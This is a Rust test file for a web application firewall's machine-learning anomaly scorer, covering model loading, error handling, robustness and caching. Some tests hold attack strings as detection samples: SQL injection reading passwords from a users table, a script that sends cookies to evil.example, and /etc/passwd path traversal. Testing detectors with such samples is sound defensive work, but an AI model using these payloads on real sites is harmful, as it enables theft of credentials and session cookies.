//! Loading models: the embedded one works with zero configuration; a missing or
//! corrupt file is an error naming it, or ML disabled, as configured; never a panic.

#![cfg(feature = "ml")]

use std::sync::Arc;
use waf_core::ml::{self, AnomalyScorer, EMBEDDED, Loaded, Model, ModelSettings, OnModelError};
use waf_core::request::{Limits, RawRequest, RequestView};
use waf_core::{SignalSource, Waf};

fn get(uri: &str) -> RequestView {
    RequestView::from_raw(
        RawRequest {
            method: "GET",
            uri,
            protocol: "HTTP/1.1",
            headers: vec![
                (b"host", b"shop.example"),
                (
                    b"user-agent",
                    b"Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0",
                ),
            ],
            body: Default::default(),
            client: "198.51.100.7".parse().unwrap(),
        },
        &Limits::default(),
    )
}

fn settings(path: &std::path::Path, on_error: OnModelError) -> ModelSettings {
    ModelSettings {
        path: Some(path.to_owned()),
        on_error,
    }
}

#[test]
fn a_missing_file_fails_or_disables_as_configured() {
    let path = std::env::temp_dir().join("waf-ml-test-no-such-model.onnx");
    let error = ml::load(&settings(&path, OnModelError::Fail)).unwrap_err();
    assert!(
        error.message().contains(&path.display().to_string()),
        "{error}"
    );
    assert!(error.message().contains("cannot be read"), "{error}");
    match ml::load(&settings(&path, OnModelError::Disable)).unwrap() {
        Loaded::Disabled { reason } => assert_eq!(reason.message(), error.message()),
        Loaded::Ready(_) => panic!("a missing file gives no model"),
    }
}

#[test]
fn corrupt_models_are_refused_with_the_place_named() {
    let truncated = &EMBEDDED[..EMBEDDED.len() / 2];
    let mut flipped = EMBEDDED.to_vec();
    for byte in flipped.iter_mut().step_by(7) {
        *byte ^= 0x5a;
    }
    for (what, bytes) in [
        ("empty", &b""[..]),
        ("text", b"not a model"),
        ("truncated", truncated),
        ("flipped", &flipped),
    ] {
        let error = Model::from_bytes("models/broken.onnx", bytes).unwrap_err();
        assert!(
            error.message().starts_with("ML model models/broken.onnx: "),
            "{what}: {error}"
        );
    }
    let path =
        std::env::temp_dir().join(format!("waf-ml-test-corrupt-{}.onnx", std::process::id()));
    std::fs::write(&path, truncated).unwrap();
    assert!(ml::load(&settings(&path, OnModelError::Fail)).is_err());
    assert!(matches!(
        ml::load(&settings(&path, OnModelError::Disable)),
        Ok(Loaded::Disabled { .. })
    ));
    std::fs::remove_file(&path).unwrap();
}

#[test]
fn a_model_file_loads_like_the_embedded_one() {
    let path = std::env::temp_dir().join(format!("waf-ml-test-model-{}.onnx", std::process::id()));
    std::fs::write(&path, EMBEDDED).unwrap();
    let Loaded::Ready(from_file) = ml::load(&settings(&path, OnModelError::Fail)).unwrap() else {
        panic!("the file holds the embedded model");
    };
    std::fs::remove_file(&path).unwrap();
    let embedded = AnomalyScorer::embedded().unwrap();
    let request = get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert_eq!(from_file.assess(&request), embedded.assess(&request));
    assert_eq!(from_file.model().origin(), path.display().to_string());
}

#[test]
fn attacks_score_higher_than_ordinary_values_and_are_explained() {
    let scorer = AnomalyScorer::embedded().unwrap();
    let attacks = [
        "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/search?q=%3Cscript%3Edocument.location%3D%27//evil.example/%27%2Bdocument.cookie%3C/script%3E",
        "/download?file=../../../../etc/passwd",
    ];
    let benign = [
        "/item?id=1042",
        "/search?q=red+running+shoes",
        "/download?file=report-2024.pdf",
    ];
    for (attack, benign) in attacks.iter().zip(benign) {
        let (a, b) = (scorer.assess(&get(attack)), scorer.assess(&get(benign)));
        assert!(
            a.signal > 0.5 && b.signal < 0.5,
            "{attack}: {} vs {benign}: {}",
            a.signal,
            b.signal
        );
        assert_eq!(a.matches[0].variable, "ARGS_GET", "{attack}");
        assert!(b.matches.is_empty());
    }
    // In the engine, the signal is weighted by `ml_anomaly`.
    let waf = Waf::builder()
        .signal_source(Arc::new(scorer))
        .build()
        .unwrap();
    let verdict = waf.inspect(&get(attacks[0]));
    let ml = verdict
        .contributions
        .iter()
        .find(|c| c.signal == ml::SIGNAL)
        .unwrap();
    assert_eq!(ml.weight, 0.4);
    assert!(ml.value > 0.5);
}

#[test]
fn hostile_requests_never_panic() {
    let scorer = AnomalyScorer::embedded().unwrap();
    let long = format!("/x?{}", "a=%ff%00%zz&".repeat(5000));
    for uri in ["/", "", "/%", "/?=&&==", long.as_str()] {
        let signal = scorer.assess(&get(uri)).signal;
        assert!((0.0..=1.0).contains(&signal), "{uri:.40}: {signal}");
    }
}

/// Kept probabilities change nothing: the same requests score the same with the cache
/// as without, on the first pass (values scored in batches of other sizes) and on the
/// second (values from the cache).
#[test]
fn kept_probabilities_give_the_same_scores_as_scoring_every_value() {
    let cached = AnomalyScorer::embedded().unwrap();
    let uncached = AnomalyScorer::embedded().unwrap().cache_capacity(0);
    let uris: Vec<String> = (0..40)
        .map(|i| match i % 4 {
            0 => format!("/search?q=shoes+{i}&page={}", i % 3),
            1 => format!("/item?id={i}%27%20union%20select%20password%20from%20users--"),
            2 => format!("/q?a=<script>alert({i})</script>&b=plain&c={i}&d=x&e=y&f=z"),
            _ => format!("/files/../../etc/passwd?n={i}"),
        })
        .collect();
    for pass in 0..2 {
        for uri in &uris {
            let request = get(uri);
            let with: Vec<f64> = cached.value_scores(&request).iter().map(|s| s.2).collect();
            let without: Vec<f64> = uncached
                .value_scores(&request)
                .iter()
                .map(|s| s.2)
                .collect();
            assert_eq!(with, without, "pass {pass}: {uri}");
        }
    }
    // The path, the query values and the two headers, each distinct value once.
    assert!(cached.cached_values() > 40, "{}", cached.cached_values());
    assert_eq!(uncached.cached_values(), 0);
}
